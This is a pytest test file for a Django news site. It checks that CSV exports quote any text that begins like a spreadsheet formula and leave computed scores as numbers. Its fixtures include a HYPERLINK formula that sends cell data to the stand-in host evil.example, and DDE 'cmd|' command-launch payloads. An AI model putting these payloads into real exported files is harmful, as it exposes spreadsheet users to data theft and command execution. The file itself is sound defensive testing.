"""Every CSV the site writes opens in a spreadsheet as text, never as a formula.

An editor's or a contributor's text that starts like a formula (OWASP, "CSV Injection")
comes out with a leading single quote; numbers the site computes stay numbers.
"""

import csv
import io

import pytest
from django.urls import reverse

from core.csvsafe import FORMULA_STARTS, safe_cell
from core.readers import COOKIE_NAME, signed_reader_cookie
from predictions import services as prediction_services
from tests.factories import (
    cite,
    make_article,
    make_criteria,
    make_meter,
    make_question,
    make_source,
)
from trust import services as trust_services
from trust.models import ComponentScore, CriterionResult

pytestmark = pytest.mark.django_db

# Opens as a link that sends the neighbouring cell to another site.
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Open")'


def read_csv(response):
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.content.decode())))


def no_cell_starts_a_formula(rows):
    return all(
        not (value or "").startswith(FORMULA_STARTS) for row in rows for value in row.values()
    )


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (FORMULA, "'" + FORMULA),
        ("+1+1", "'+1+1"),
        ("-3.5", "'-3.5"),  # text that looks like a number is still text
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("\n=1+1", "'\n=1+1"),
        ("A plain sentence = fine", "A plain sentence = fine"),
        ("'already quoted", "'already quoted"),
        ("", ""),
        (-3.5, -3.5),  # a number the site computed stays a number
        (-2, -2),
        (None, None),
    ],
)
def test_the_rule_quotes_text_that_starts_like_a_formula(value, written):
    assert safe_cell(value) == written


def test_the_score_inputs_csv_neutralises_formulas_in_editors_texts(client):
    criteria = make_criteria()
    article = make_article()
    source = make_source(meets=criteria, name=FORMULA)
    cite(article, source)
    make_meter(article, values=[40, None], weights=[50, 50])
    ComponentScore.objects.filter(article=article).update(rationale=FORMULA)
    CriterionResult.objects.filter(source=source).update(note="@SUM(1+1)*cmd|' /C calc'!A0")
    ComponentScore.objects.filter(article=article, value=40).update(value=20)
    trust_services.rescore_article(article=article, reason="-2+3+cmd|' /C calc'!A0")

    rows = read_csv(client.get(reverse("api:story_inputs_csv", args=[article.slug])))

    assert no_cell_starts_a_formula(rows)
    [source_row] = [row for row in rows if row["part"] == "source"]
    assert source_row["name"] == "'" + FORMULA
    assert {row["explanation"] for row in rows if row["part"] == "component"} == {"'" + FORMULA}
    assert {row["explanation"] for row in rows if row["part"] == "criterion"} == {
        "'@SUM(1+1)*cmd|' /C calc'!A0"
    }
    latest_change = next(row for row in rows if row["part"] == "score change")
    assert latest_change["explanation"] == "'-2+3+cmd|' /C calc'!A0"
    # The numbers are untouched: the export still equals the page.
    [total] = [row for row in rows if row["part"] == "reality score"]
    article.assessment.refresh_from_db()
    assert total["value"] == str(article.assessment.score)


def test_the_track_record_csv_neutralises_formulas_and_keeps_scores_numbers(client):
    story = make_article(headline="-2+3+cmd|' /C calc'!A0")
    question = make_question(story, text=FORMULA)
    prediction_services.submit_forecast(question=question, reader_id="me", probability=70)
    prediction_services.resolve_question(question=question, resolution="no", note="No.")
    client.cookies[COOKIE_NAME] = signed_reader_cookie("me")

    [row] = read_csv(client.get(reverse("predictions:track_record_csv")))

    assert row["question"] == "'" + FORMULA
    assert row["story"] == "'-2+3+cmd|' /C calc'!A0"
    assert row["your_forecast_percent"] == "70"
    assert row["brier_score"] == "0.4900"
    # A negative score the site computed is written as the number it is, unquoted.
    assert float(row["log_score"]) < 0
